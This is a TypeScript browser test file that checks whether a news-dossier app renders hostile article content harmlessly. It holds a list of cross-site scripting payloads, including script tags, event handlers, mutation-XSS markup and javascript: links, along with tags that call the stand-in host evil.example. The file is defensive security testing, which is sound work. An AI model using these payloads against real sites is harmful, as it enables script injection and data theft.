// Articles that attack their reader are shown as what they are, and do nothing.

import type { Browser, Frame } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { Inspection } from '../../src/domain/index.js';
import type { DossierService } from '../../src/server/dossier-service.js';
import { fixture, ids } from '../page/fixture.js';
import { memoryService } from '../page/memory-service.js';
import { launch, type Visit, visit, withoutBrowser } from './chromium.js';

const hostile = ids.article('hostile');
const one = fixture.inspections.get(hostile)!;

/** The fixture with the hostile article's title, text or address replaced. */
function withArticle(change: Partial<Inspection['article']>, original?: string) {
  const inspection: Inspection = { ...one, claims: [], article: { ...one.article, ...change } };
  return memoryService({
    ...fixture,
    inspections: new Map(fixture.inspections).set(hostile, inspection),
    originals: new Map(fixture.originals).set(hostile, {
      name: 'hostile.html',
      mediaType: 'text/html',
      bytes: new TextEncoder().encode(original ?? change.text ?? one.article.text),
    }),
  });
}

const attacks: readonly [string, string][] = [
  ['a script', '<script>window.pwned=1;top.pwned=1</script>'],
  ['an event handler', '<img src="x" onerror="window.pwned=1;top.pwned=1">'],
  ['an svg with a script', '<svg onload="window.pwned=1"><script>top.pwned=1</script></svg>'],
  ['a style that hides the page', '<style>*{display:none!important}</style>'],
  [
    'a style that calls home',
    '<style>@import "https://evil.example/a.css";body{background:url(https://evil.example/b.png)}</style>',
  ],
  ['a javascript link', '<a href="javascript:top.pwned=1">x</a>'],
  ['a frame', '<iframe srcdoc="<script>top.pwned=1</script>" src="https://evil.example/"></iframe>'],
  ['an object', '<object data="https://evil.example/"></object><embed src="https://evil.example/">'],
  ['a refresh', '<meta http-equiv="refresh" content="0;url=https://evil.example/">'],
  ['a base address', '<base href="https://evil.example/"><img src="a.png">'],
  [
    'a preconnect',
    '<link rel="preconnect" href="https://evil.example"><link rel="dns-prefetch" href="https://evil.example">',
  ],
  ['a form that sends itself', '<form action="https://evil.example/"><input autofocus onfocus="top.pwned=1"></form>'],
  ['a broken comment', '<!--><script>top.pwned=1</script>-->'],
  [
    'a template',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=top.pwned=1&gt;">',
  ],
];

describe.skipIf(withoutBrowser)('hostile articles', () => {
  let browser: Browser;
  beforeAll(async () => {
    browser = await launch();
  });
  afterAll(() => browser?.close());

  async function unharmed(visited: Visit): Promise<void> {
    expect(await visited.page.evaluate(() => (globalThis as { pwned?: unknown }).pwned)).toBeUndefined();
    expect(visited.strayed).toEqual([]);
    expect(await visited.page.locator('.brand-name').isVisible()).toBe(true);
  }

  // One page for all: what an attack leaves behind would show in the next.
  describe('one after the other', () => {
    let visited: Visit;
    let served: DossierService = memoryService(fixture);
    let turn = 0;
    const now: DossierService = {
      ...served,
      revision: () => `turn ${turn}`,
      article: (id) => served.article(id),
      original: (id) => served.original(id),
    };
    const show = async (service: DossierService) => {
      served = service;
      turn += 1;
      await visited.goto(`/chronology?article=${hostile}`);
      await visited.page.locator('.article-panel').waitFor();
    };
    beforeAll(async () => {
      visited = await visit(browser, now);
    });
    afterAll(() => visited.close());

    it.each(attacks)('%s in text, title and outlet is only text', async (_, attack) => {
      await show(withArticle({ text: `Before. ${attack} After.`, title: attack, outlet: { id: null, name: attack } }));
      expect(await visited.page.locator('.text').textContent()).toContain(attack);
      await unharmed(visited);
    });

    it.each(attacks)('%s in the original does nothing in its frame', async (_, attack) => {
      await show(withArticle({}, `<!doctype html><body><h1>Original</h1>${attack}`));
      await visited.page.getByRole('button', { name: 'Show the original' }).click();
      const frame = (): Frame | undefined =>
        visited.page.frames().find((known) => known.url().endsWith('/original/view'));
      await expect.poll(() => frame()?.url() ?? '').toContain('/original/view');
      await frame()!.waitForLoadState('load');
      expect(await frame()!.locator('h1').textContent()).toBe('Original');
      await unharmed(visited);
    });
  });

  it('shows directional overrides as what they are', async () => {
    const visited = await visit(browser, memoryService(fixture));
    await visited.goto(`/chronology?article=${hostile}`);
    await visited.page.locator('.text').waitFor();
    const words = await visited.page.locator('.article-panel').textContent();
    expect(words).not.toMatch(/[\u202A-\u202E]/u);
    expect(words).toContain('⟦RLO⟧gnp.exe');
    await visited.close();
  });

  it('makes no link of an address that is no web address', async () => {
    const visited = await visit(browser, memoryService(fixture));
    await visited.goto(`/chronology?article=${hostile}`);
    await visited.page.locator('.address').getByText('javascript:window.pwned=1').waitFor();
    expect(await visited.page.locator('a[href^="javascript" i]').count()).toBe(0);
    await visited.close();
  });

  it('survives a title and an outlet of one megabyte', async () => {
    const long = 'Unending headline '.repeat(58_000);
    const service = withArticle({ title: long, outlet: { id: null, name: 'x'.repeat(1_000_000) } });
    const visited = await visit(browser, service);
    await visited.goto(`/chronology?article=${hostile}`);
    await visited.page.locator('.article-title').waitFor();
    expect((await visited.page.locator('.article-title').textContent())!.length).toBeLessThan(400);
    expect(await visited.page.evaluate(() => document.documentElement.scrollWidth <= innerWidth)).toBe(true);
    await visited.shot('megabyte-title');
    await visited.close();
  });
});
